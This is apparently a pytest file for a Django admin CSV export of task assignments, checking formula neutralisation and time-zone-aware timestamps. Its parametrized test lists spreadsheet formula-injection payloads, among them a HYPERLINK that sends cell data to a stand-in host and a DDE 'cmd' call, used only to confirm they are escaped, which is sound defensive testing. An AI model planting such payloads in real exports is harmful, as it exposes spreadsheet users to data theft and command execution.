"""The assignment export: safe to open in a spreadsheet, and clear about its time zone."""

import csv
import io
from datetime import UTC, datetime

import pytest

from tasks.admin.export import cell
from tasks.models import Assignment
from tasks.services import task_create
from tasks.sessions import person_login

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client, supervisor):
    client.force_login(supervisor)
    return client


def exported(client) -> list[dict]:
    r = client.get("/admin/tasks/assignment/export/")
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_neutralises_cells_a_spreadsheet_would_run(admin_client, make_person, text):
    from personnel.models import Person
    from tasks.models import Task

    person = make_person()
    task_create(descriptions=["x"])
    person_login(person_id=person.pk)
    # Written directly: the services strip blanks, older rows or other tools may not have.
    Task.objects.update(description=text)
    Person.objects.update(name=text)  # a name is a cell too
    (row,) = exported(admin_client)
    assert row["task_description"] == "'" + text
    assert row["person_name"] == "'" + text


def test_export_leaves_ordinary_text_alone(admin_client, alice):
    task_create(descriptions=["Inspect lot 7 = batch B; 3-4 units @ line 2"])
    person_login(person_id=alice.pk)
    (row,) = exported(admin_client)
    assert row["task_description"] == "Inspect lot 7 = batch B; 3-4 units @ line 2"
    assert row["person_name"] == "Alice"


def test_export_timestamps_carry_the_sites_zone(admin_client, alice, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    task_create(descriptions=["a"])
    person_login(person_id=alice.pk)
    Assignment.objects.update(assigned_at=datetime(2026, 7, 1, 10, 0, tzinfo=UTC))
    (row,) = exported(admin_client)
    assert row["assigned_at"] == "2026-07-01T12:00:00+02:00"
    assert row["completed_at"] == ""


def test_cell_keeps_numbers_and_none():
    assert cell(-5) == -5 and cell(None) is None and cell("") == ""
